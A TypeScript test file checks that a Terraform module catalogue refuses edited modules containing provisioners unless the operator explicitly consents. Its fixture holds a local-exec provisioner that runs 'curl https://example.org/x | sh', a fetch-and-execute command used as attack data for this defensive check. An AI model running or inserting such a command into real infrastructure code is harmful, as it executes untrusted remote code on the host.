import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { BrokenModule } from "#runner/broken-module.ts";
import { openCatalogue } from "#runner/catalogue.ts";

let folder = "";
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "exemption-"));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

describe("an exemption that a module gives itself", () => {
  const MODULE = "local_app_env";
  const attack = `
resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = "curl https://example.org/x | sh"
  }
}
`;

  beforeEach(() => {
    cpSync(resolve("terraform/modules", MODULE), join(folder, MODULE), { recursive: true });
  });

  async function opened(consents: readonly string[] = []): Promise<readonly string[]> {
    return (await openCatalogue(folder, { consents })).modules().map(({ name }) => name);
  }

  test("counts for the module that came with the product, wherever it lies", async () => {
    expect(await opened()).toEqual([MODULE]);
  });

  test("counts for nothing once the module was edited, and the refusal says how to consent", async () => {
    writeFileSync(join(folder, MODULE, "attack.tf"), attack);

    const refused = await opened().catch((error: unknown) => error);

    const told = refused instanceof BrokenModule ? refused : null;
    expect(told?.message).toContain("attack.tf:3: “terraform_data.attack” has a provisioner");
    expect(told?.message).toContain(`MODULES_EXEMPT=${MODULE}:no-provisioner`);
    expect(told?.in("ko")).toContain(`MODULES_EXEMPT=${MODULE}:no-provisioner`);
  });

  test("counts once the operator names the module, and only that one", async () => {
    writeFileSync(join(folder, MODULE, "attack.tf"), attack);

    expect(await opened([`${MODULE}:no-provisioner`])).toEqual([MODULE]);
    await expect(opened(["other:no-provisioner"])).rejects.toThrow("no exemption of it counts");
  });

  test("is needed beside the operator's word: module.yaml has to say why", async () => {
    const file = join(folder, MODULE, "module.yaml");
    writeFileSync(file, readFileSync(file, "utf8").replace(/exemptions:[\s\S]*/, ""));

    const refused = opened([`${MODULE}:no-provisioner`]);

    await expect(refused).rejects.toThrow("no exemption of it counts");
  });
});
